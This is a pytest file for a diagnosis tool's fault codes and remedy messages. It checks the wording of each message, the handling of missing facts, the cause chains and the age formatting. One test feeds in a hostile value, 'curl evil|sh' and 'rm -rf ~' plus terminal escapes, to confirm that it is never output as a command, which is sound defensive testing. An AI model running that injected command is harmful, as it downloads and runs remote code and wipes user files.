"""Every code has words, and no missing fact stops them."""

import re
import subprocess
import sys
from pathlib import Path

import pytest

from glassline.contract import Reason
from glassline.diagnosis import Hop, Observation, age_text, diagnose, hop_of, remedy_of
from glassline.diagnosis.faults import FAULTS
from glassline.diagnosis.words import PLACEHOLDERS

PAGE = Path(__file__).parents[2] / "docs" / "troubleshooting.md"


def test_every_reason_of_the_contract_has_a_fault_and_none_is_left_over() -> None:
    assert set(FAULTS) == set(Reason)


@pytest.mark.parametrize("code", list(Reason))
def test_sentence_and_remedy_name_their_facts(code: Reason) -> None:
    fault = remedy_of(code)
    assert fault.facts <= set(PLACEHOLDERS)
    sentence, remedy = fault.render({name: f"_.{name}._" for name in fault.facts} | dict.fromkeys(fault.notes, True))
    assert set(re.findall(r"_\.([a-z_]+)\._", sentence + remedy)) == fault.facts
    assert sentence.endswith(".")
    assert remedy.endswith(".")
    assert "\n" not in sentence + remedy


@pytest.mark.parametrize("code", list(Reason))
def test_foreign_facts_are_neither_obeyed_by_a_terminal_nor_offered_as_commands(code: Reason) -> None:
    facts = dict.fromkeys(PLACEHOLDERS, "x; curl evil|sh `rm -rf ~`\x1b[2J\n\u202e")
    sentence, remedy = remedy_of(code).render(facts)
    _, control = remedy_of(code).render({})
    assert (sentence + remedy).isprintable()
    assert remedy.count("`") == control.count("`")
    assert "`" not in sentence or "`" in remedy_of(code).sentence
    assert not re.search(r"ping x; curl", remedy)


@pytest.mark.parametrize("code", list(Reason))
def test_missing_facts_leave_a_sentence_that_can_be_read(code: Reason) -> None:
    sentence, remedy = remedy_of(code).render({})
    assert not set("{}") & set(sentence + remedy)
    assert remedy.count("`") % 2 == 0


@pytest.mark.parametrize("code", list(Reason))
def test_remedy_says_what_to_type_or_set_or_touch(code: Reason) -> None:
    _, remedy = remedy_of(code).render({})
    assert re.search(r"`[^`]+`|Reload|power supply|cooler", remedy)


@pytest.mark.parametrize("code", list(Reason))
def test_no_remedy_guesses_an_address(code: Reason) -> None:
    sentence, remedy = remedy_of(code).render({})
    assert not re.search(r"\b(?!127\.0\.0\.1)\d+\.\d+\.\d+\.\d+|https?://\w", sentence + remedy)


@pytest.mark.parametrize("code", list(Reason))
def test_a_lone_fault_of_every_code_is_its_own_first_cause(code: Reason) -> None:
    verdict = diagnose([Observation(hop=hop_of(code), state=remedy_of(code).state, code=code)])
    assert verdict.first_cause is not None
    assert verdict.first_cause.code is code


def test_no_two_faults_follow_from_each_other() -> None:
    def causes(code: Reason, seen: tuple[Reason, ...] = ()) -> None:
        assert code not in seen, f"{code} follows from itself by {seen}"
        for cause in FAULTS[code].follows:
            causes(cause, (*seen, code))

    for code in Reason:
        causes(code)


def test_predecessors_setting_is_answered_with_what_takes_its_place() -> None:
    _, remedy = remedy_of(Reason.BROKER_ADDRESS_UNSET).render({"program": "pi_node", "backend_url_set": True})
    assert remedy.startswith("BACKEND_URL is set here")
    assert "`broker` in [pi_node] of glassline.toml (or GLASS_BROKER, or --broker)" in remedy
    _, without = remedy_of(Reason.BROKER_ADDRESS_UNSET).render({"program": "pi_node", "backend_url_set": False})
    assert "BACKEND_URL" not in without


def test_parts_without_a_hop_of_their_own_belong_to_who_reports_them() -> None:
    assert hop_of(Reason.DISK_FULL) is Hop.NODE
    assert hop_of(Reason.DISK_FULL, Hop.BRIDGE) is Hop.BRIDGE
    assert hop_of(Reason.STORE_DOWN, Hop.NODE) is Hop.STORE


@pytest.mark.parametrize(
    ("age_s", "text"),
    [(0.04, "0.0 s"), (0.2, "0.2 s"), (9.96, "10 s"), (59, "59 s"), (300, "5 min"), (7200, "2 h"), (432_000, "5 days")],
)
def test_ages_read_as_people_say_them(age_s: float, text: str) -> None:
    assert age_text(age_s) == text


def test_troubleshooting_page_is_what_diagnosis_prints() -> None:
    printed = subprocess.run([sys.executable, "-m", "glassline.diagnosis"], capture_output=True, text=True, check=True)
    assert PAGE.read_text() == printed.stdout, "make it anew: python -m glassline.diagnosis > docs/troubleshooting.md"
    assert all(f"### `{code.value}`" in printed.stdout for code in Reason)


def test_every_code_is_brought_about_by_a_test_outside_of_diagnosis() -> None:
    tests = PAGE.parents[1] / "tests"
    text = "\n".join(file.read_text() for file in tests.rglob("*.py") if "diagnosis" not in file.parts)
    untested = [code.value for code in Reason if f"Reason.{code.name}" not in text and code.value not in text]
    assert not untested
